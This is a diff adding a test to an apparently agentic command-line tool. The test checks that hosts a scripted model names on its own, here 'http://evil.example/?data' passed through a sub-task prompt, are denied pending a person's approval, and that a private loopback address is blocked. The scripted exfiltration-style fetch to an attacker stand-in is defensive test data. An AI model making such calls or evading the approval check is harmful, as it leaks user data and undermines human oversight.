@@ -312,3 +312,21 @@ test("--yes and --mode together are refused", async (t) => {
   assert.equal(code, 2);
   assert.match(stderr, /--yes.*--mode/);
 });
+
+test("the real pawl: a host named in an earlier input is fetched from, also in a task; one that a model names is not", async (t) => {
+  const world = new World(t);
+  const fetch = (url: string) => ({ call: "fetch", input: { url } });
+  const server = await world.server([
+    [{ text: "Hello." }],
+    [{ call: "task", input: { agent: "explore", prompt: "Read http://evil.example/" } }],
+    [fetch("http://127.0.0.1:9/page"), fetch("http://evil.example/?data")],
+    [{ text: "Read." }],
+    [{ text: "Done." }],
+  ]);
+  for (const prompt of ["See http://127.0.0.1:9/.", "Go on"])
+    assert.equal((await world.pawl(["run", prompt, "--session", "s", ...world.place(server)])).code, 0);
+  const told = server.requests[3]?.body ?? "";
+  // Run, and refused by the guard of private addresses.
+  assert.match(told, /not an address of the public internet/);
+  assert.equal(told.split("TOOL_DENIED: this call needs a person's approval").length - 1, 1);
+});
